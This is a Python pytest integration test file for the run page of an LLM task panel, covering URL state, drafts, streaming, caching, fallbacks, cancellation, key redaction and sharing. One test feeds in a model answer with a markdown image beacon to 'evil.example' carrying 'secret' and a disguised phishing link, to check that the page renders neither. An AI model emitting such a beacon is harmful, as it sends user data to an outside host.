import json
from pathlib import Path
from typing import Any

import pytest

from mcp_core.models import RunStatus
from tests.faulty import chat, hang, status, stream, stream_pieces
from tests.pages.conftest import KEY, Panel, shown

pytestmark = pytest.mark.integration

SET = json.dumps({"model": "acme/m", "max_retries": 0})
VARIABLE = "run.summarise.variables.v_text"


def test_the_example_is_chosen_first_and_the_address_stays_as_it_was(panel: Panel) -> None:
    page = panel.open("run")
    assert not page.exception
    assert page.title[0].value == "Run"
    assert page.selectbox(key="run.task").value == "summarise"
    assert page.query_params == {}
    page.selectbox(key="run.task").set_value("rewrite").run()
    assert page.query_params == {"task": "rewrite"}
    assert "The answer shows here" in shown(page)


def test_a_link_restores_task_variables_and_settings(panel: Panel) -> None:
    page = panel.open("run", task="rewrite", var_tone="formal", var_text="Hello you", set=SET)
    assert not page.exception
    assert page.selectbox(key="run.task").value == "rewrite"
    assert page.text_area(key="run.rewrite.variables.v_text").value == "Hello you"
    assert page.selectbox(key="run.rewrite.settings.model").value == "acme/m"
    assert page.query_params["var.tone"] == "formal"
    assert json.loads(page.query_params["set"]) == {"model": "acme/m", "max_retries": 0}


def test_what_is_typed_gets_into_the_address_and_back_out(panel: Panel) -> None:
    page = panel.open("run")
    page.text_area(key=VARIABLE).set_value("Rain and sun").run()
    assert page.query_params["var.text"] == "Rain and sun"
    page.text_area(key=VARIABLE).set_value("").run()
    assert "var.text" not in page.query_params


def test_an_unknown_task_is_named(panel: Panel) -> None:
    page = panel.open("run", task="no-such-task")
    assert "no-such-task" in page.warning[0].value.replace("\\", "")
    assert page.selectbox(key="run.task").value == "summarise"


def test_the_back_button_brings_the_form_back_as_it_was_and_is_not_sent_forward_again(panel: Panel) -> None:
    page = panel.open("run")
    page.text_area(key=VARIABLE).set_value("One").run()
    one = dict(page.query_params)
    page.text_area(key=VARIABLE).set_value("Two").run()
    page.query_params.clear()
    page.query_params.update(one)
    page.run()
    assert page.text_area(key=VARIABLE).value == "One"
    assert page.query_params == one
    page.query_params.clear()
    page.run()
    assert page.text_area(key=VARIABLE).value == ""
    assert page.query_params == {}


@pytest.mark.parametrize("param", [{"draft": "gone"}, {"set": "{cut"}, {"from": "gone"}])
def test_a_link_that_cannot_be_read_says_so(panel: Panel, param: dict[str, str]) -> None:
    page = panel.open("run", task="summarise", **param)
    ((name, value),) = param.items()
    assert page.warning[0].value.replace("\\", "").startswith(f"The link has {name} = “{value}”: ")
    assert page.selectbox(key="run.task").value == "summarise"


def test_a_large_form_is_a_draft_that_another_session_can_open(panel: Panel) -> None:
    text = "A long story. " * 500
    first = panel.open("run")
    first.text_area(key=VARIABLE).set_value(text).run()
    draft = first.query_params["draft"]
    assert "var.text" not in first.query_params
    second = panel.open("run", task="summarise", draft=draft)
    assert second.text_area(key=VARIABLE).value == text


def test_a_missing_variable_is_shown_and_nothing_is_run(panel: Panel) -> None:
    page = panel.open("run")
    page.button(key="run.start").click().run()
    assert "needs a change" in shown(page)
    assert "run" not in page.query_params
    assert panel.client.runs.list()[0] == []


def test_a_run_streams_is_answered_and_the_second_comes_from_the_cache(panel: Panel) -> None:
    panel.server.script(stream("It ", "rained."))
    page = panel.open("run", task="summarise", var_text="Rain", set=SET)
    page.button(key="run.start").click().run()
    run = panel.finished(page)
    assert run.status is RunStatus.SUCCEEDED
    words = shown(page)
    assert "It rained." in words
    assert "Asked the model" in words
    assert [metric.label for metric in page.metric] == ["Time", "Tokens", "Speed", "Cost"]
    page.button(key="run.again").click().run()
    again = panel.finished(page)
    assert (again.cache.outcome, again.output.text, again.retry_of) == ("hit", "It rained.", run.id)
    assert "From the cache" in shown(page)
    assert [metric.label for metric in page.metric] == ["Time", "Tokens", "Saved", "Cost"]
    assert page.metric[3].value == "$0"
    assert panel.server.calls == 1


def test_a_fallback_is_chosen_like_a_model_and_asked_where_the_model_is_missing(panel: Panel) -> None:
    panel.server.script(status(404), stream("It ", "rained."))
    page = panel.open("run", task="summarise", var_text="Rain", set=SET.replace("{", '{"fallbacks": ["acme/o"], ', 1))
    (fallback,) = [box for box in page.selectbox if box.key and ".fallbacks." in box.key]
    assert fallback.value == "acme/o"
    fallback.set_value("acme/n").run()
    page.button(key="run.start").click().run()
    run = panel.finished(page)
    assert (run.status, run.output.text) == (RunStatus.SUCCEEDED, "It rained.")
    assert [(a.number, a.provider, a.model, a.status) for a in run.attempts] == [
        (1, "acme", "m", 404),
        (2, "acme", "n", 200),
    ]
    assert run.attempts[0].error
    words = shown(page)
    assert "acme/n in place of acme/m" in words
    assert "Answered by a fallback" in words
    assert "acme/m is not known" in words, "why not the one asked for"
    events = [event.data for event in panel.client.runs.events(run.id) if event.kind == "fallback"]
    assert [(data["from"], data["to"]) for data in events] == [("acme/m", "acme/n")]


def test_run_without_cache_asks_again(panel: Panel) -> None:
    panel.server.script(stream("One."), stream("Two."))
    page = panel.open("run", task="summarise", var_text="Rain", set=SET)
    page.button(key="run.start").click().run()
    panel.finished(page)
    page.button(key="run.refresh").click().run()
    assert panel.finished(page).output.text == "Two."
    assert panel.server.calls == 2


def test_an_open_run_is_followed_by_every_session_and_cancelled_from_any(panel: Panel) -> None:
    first_piece = stream_pieces(["Half an answer"], finish_reason=None, done=False)[0]
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
    panel.server.script(hang(head + f"{len(first_piece):x}\r\n".encode() + first_piece + b"\r\n"))
    first = panel.open("run", task="summarise", var_text="Rain", set=SET)
    first.button(key="run.start").click().run()
    run_id = first.query_params["run"]
    for event in panel.client.runs.follow(run_id):
        if event.kind == "token":
            break
    second = panel.open("run", run=run_id)
    assert "Half an answer" in shown(second)
    assert "Running" in shown(second)
    second.button(key="live.cancel").click().run()
    assert panel.finished(second).status is RunStatus.CANCELLED
    first.run()
    assert "The run was cancelled" in shown(first)
    assert first.text_area(key=VARIABLE).value == "Rain"


def test_a_refused_key_is_told_with_what_to_do_and_never_shown(panel: Panel) -> None:
    panel.server.script(status(401, f"bad key {KEY}"))
    page = panel.open("run", task="summarise", var_text="Rain", set=SET)
    page.button(key="run.start").click().run()
    assert panel.finished(page).status is RunStatus.FAILED
    words = shown(page)
    assert page.error[0].proto.title == "The model server did not answer as it should"
    assert "ACME" in words
    assert KEY not in words


def test_a_model_that_is_switched_off_fails_with_a_hint(panel: Panel) -> None:
    page = panel.open("run", task="summarise", var_text="Rain")
    page.button(key="run.start").click().run()
    assert panel.finished(page).error is not None
    assert "MCP_LOCAL_MODEL" in shown(page).replace("\\", "")


def test_an_unknown_run_is_told(panel: Panel) -> None:
    page = panel.open("run", run="nosuchrun")
    assert "run = “nosuchrun”: There is no run" in page.warning[0].value.replace("\\", "")


def test_an_answer_can_neither_load_an_image_nor_hide_an_address(panel: Panel) -> None:
    panel.server.script(stream("![x](http://evil.example/?q=secret) and [bank](http://evil.example/login)"))
    page = panel.open("run", task="summarise", var_text="Rain", set=SET)
    page.button(key="run.start").click().run()
    panel.finished(page)
    words = shown(page)
    assert "![" not in words
    assert "bank (evil\\.example)" in words


def test_the_preview_shows_the_rendered_prompt(panel: Panel) -> None:
    page = panel.open("run", task="summarise", var_text="Rain in the valley")
    page.session_state["run.preview"] = True
    page.run()
    codes = [code.value for code in page.code]
    assert codes[0].startswith("You are a careful editor.")
    assert codes[1].endswith("Rain in the valley")


def test_the_preview_tells_what_is_missing_and_what_fails(panel: Panel) -> None:
    page = panel.open("run", task="llm_prompt", set=json.dumps({"template": "{{ n / 0 }}"}))
    page.session_state["run.preview"] = True
    page.run()
    assert "Fill in what is missing" in shown(page)
    page.text_area(key="run.llm_prompt.variables.v_n").set_value("x").run()
    assert "line 1" in page.error[0].value


def test_a_very_long_prompt_is_cut_in_the_preview_and_says_so(panel: Panel) -> None:
    page = panel.open("run", task="llm_prompt", set=json.dumps({"template": "{{ 'ab' * 20000 }}"}))
    page.session_state["run.preview"] = True
    page.run()
    assert len(page.code[0].value) == 20_000
    assert "40,000 characters, the first 20,000 of each message shown" in shown(page)


def test_a_hit_tells_that_nothing_went_over_the_wire_and_whose_answer_it_is(panel: Panel) -> None:
    panel.server.script(stream("Fine."))
    page = panel.open("run", task="summarise", var_text="Rain", set=SET)
    page.button(key="run.start").click().run()
    first = panel.finished(page)
    page.button(key="run.again").click().run()
    panel.finished(page)
    page.session_state["run.exchange"] = True
    page.run()
    words = shown(page)
    assert "Nothing went over the wire" in words
    assert first.id in words
    page.session_state["run.exchange"] = False
    page.session_state["run.share"] = True
    page.run()
    way: Any = page.get_by_key("run.way")
    way.set_value("curl").run()
    assert page.code[2].value.startswith("curl ")


def test_there_is_no_curl_for_a_run_that_never_reached_a_server(panel: Panel) -> None:
    page = panel.open("run", task="summarise", var_text="Rain", set=json.dumps({"model": "nobody/m"}))
    page.button(key="run.start").click().run()
    panel.finished(page)
    page.session_state["run.share"] = True
    page.run()
    way: Any = page.get_by_key("run.way")
    way.set_value("curl").run()
    assert "Nothing was sent for this run" in shown(page)


def test_sharing_gives_links_and_the_same_as_command_python_and_curl(panel: Panel) -> None:
    panel.server.script(stream("Fine."))
    page = panel.open("run", task="summarise", var_text="Rain", set=SET)
    page.button(key="run.start").click().run()
    run = panel.finished(page)
    page.session_state["run.share"] = True
    page.run()
    codes = [code.value for code in page.code]
    assert codes[0] == f"http://panel.example/base/history?run={run.id}"
    assert codes[1].startswith("http://panel.example/base/run?task=summarise&var.text=Rain")
    assert "python -m mcp_core run task.yaml --var text=Rain" in codes[2]
    way: Any = page.get_by_key("run.way")
    way.set_value("Python").run()
    compile(page.code[2].value, "snippet", "exec")
    way = page.get_by_key("run.way")
    way.set_value("curl").run()
    assert page.code[2].value.startswith(f"curl {panel.server.url}/chat/completions")
    assert '-H "Authorization: Bearer $ACME_KEY"' in page.code[2].value
    assert KEY not in shown(page)


def test_the_raw_exchange_is_shown_redacted(panel: Panel) -> None:
    panel.server.script(stream("Fine."))
    page = panel.open("run", task="summarise", var_text="Rain", set=SET)
    page.button(key="run.start").click().run()
    panel.finished(page)
    page.session_state["run.exchange"] = True
    page.run()
    words = shown(page)
    assert "status 200" in words
    assert '"role": "user"' in words
    assert KEY not in words


def test_a_new_task_of_a_type_is_written_and_run_here(panel: Panel) -> None:
    panel.server.script(stream("Woof."))
    page = panel.open("run", task="llm_prompt")
    template = page.text_area(key="run.llm_prompt.settings.template")
    template.set_value("Speak as {{ animal }}.").run()
    page.selectbox(key="run.llm_prompt.settings.model").set_value("acme/n").run()
    page.text_area(key="run.llm_prompt.variables.v_animal").set_value("a dog").run()
    page.button(key="run.start").click().run()
    assert panel.finished(page).output.text == "Woof."
    assert panel.server.received[-1].json["model"] == "n"
    assert panel.server.received[-1].json["messages"][0]["content"] == "Speak as a dog."


def test_variables_stay_while_the_template_is_being_changed(panel: Panel) -> None:
    page = panel.open("run", task="llm_prompt", set=json.dumps({"template": "{{ b }}"}), var_b="kept")
    page.text_area(key="run.llm_prompt.settings.template").set_value("{{ a }} {{ b }}").run()
    assert page.text_area(key="run.llm_prompt.variables.v_b").value == "kept"
    page.text_area(key="run.llm_prompt.settings.template").set_value("{{ a }} {{ b").run()
    assert page.text_area(key="run.llm_prompt.variables.v_b").value == "kept"


def test_samples_and_data_are_shown_each_by_itself(panel: Panel) -> None:
    panel.server.script(stream("First."), stream("Second."))
    page = panel.open("run", task="rewrite", set=SET)
    page.button(key="run.start").click().run()
    panel.finished(page)
    words = shown(page)
    assert "Answer 1 of 2" in words
    assert "Second." in words


def test_an_answer_as_data_is_shown_as_json(panel: Panel) -> None:
    panel.server.script(chat('{"kind": "praise"}'))
    page = panel.open("run", task="classify", set=SET)
    page.button(key="run.start").click().run()
    assert panel.finished(page).output.data == {"kind": "praise"}
    assert json.loads(page.json[0].value) == {"kind": "praise"}


def test_what_was_typed_is_there_when_one_comes_back_to_the_page(panel: Panel) -> None:
    page = panel.open("run")
    page.text_area(key=VARIABLE).set_value("Stay").run()
    page.switch_page("pages/home.py")
    page.query_params.clear()
    page.run()
    page.switch_page("pages/run.py").run()
    assert page.text_area(key=VARIABLE).value == "Stay"
    assert page.selectbox(key="run.task").value == "summarise"
    assert page.query_params["var.text"] == "Stay"


def test_a_local_model_that_cannot_be_had_says_what_to_do(
    panel: Panel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    broken = tmp_path / "model.gguf"
    broken.write_bytes(b"no model at all")
    monkeypatch.setenv("MCP_LOCAL_MODEL", str(broken))
    page = panel.open("run")
    assert not page.exception
    page.text_area(key=VARIABLE).set_value("Rain").run()
    page.selectbox(key="run.summarise.settings.model").set_value("local/model").run()
    page.button(key="run.start").click().run()
    panel.finished(page)
    words = shown(page)
    assert "The built-in model is not available" in words
    assert "Choose a model of acme" in words


def test_a_secret_that_is_typed_never_gets_into_the_address(panel: Panel) -> None:
    page = panel.open("run")
    page.text_area(key=VARIABLE).set_value(f"my key is {KEY}").run()
    assert set(page.query_params) == {"task", "draft"}
    assert page.text_area(key=VARIABLE).value == f"my key is {KEY}"
    other = panel.open("run", **dict(page.query_params))
    assert other.text_area(key=VARIABLE).value == "my key is [redacted]"


@pytest.mark.parametrize("written", ['"5"', "5", '["5"]'])
@pytest.mark.parametrize("length", [1, 2000])
def test_a_json_variable_comes_back_as_it_was(panel: Panel, tmp_path: Path, written: str, length: int) -> None:
    folder = tmp_path / "data" / "tasks"
    folder.mkdir()
    (folder / "mine.yaml").write_text(
        "type: llm_prompt\nname: Mine\ntemplate: '{{ x }}{{ t }}'\nvariables:\n  x: {type: json}\n  t: {}\n"
    )
    page = panel.open("run", task="mine")
    page.text_area(key="run.mine.variables.v_t").set_value("t" * length).run()
    page.text_area(key="run.mine.variables.v_x").set_value(written).run()
    assert ("draft" in page.query_params) == (length > 1)
    other = panel.open("run", **dict(page.query_params))
    assert json.loads(str(other.text_area(key="run.mine.variables.v_x").value)) == json.loads(written)
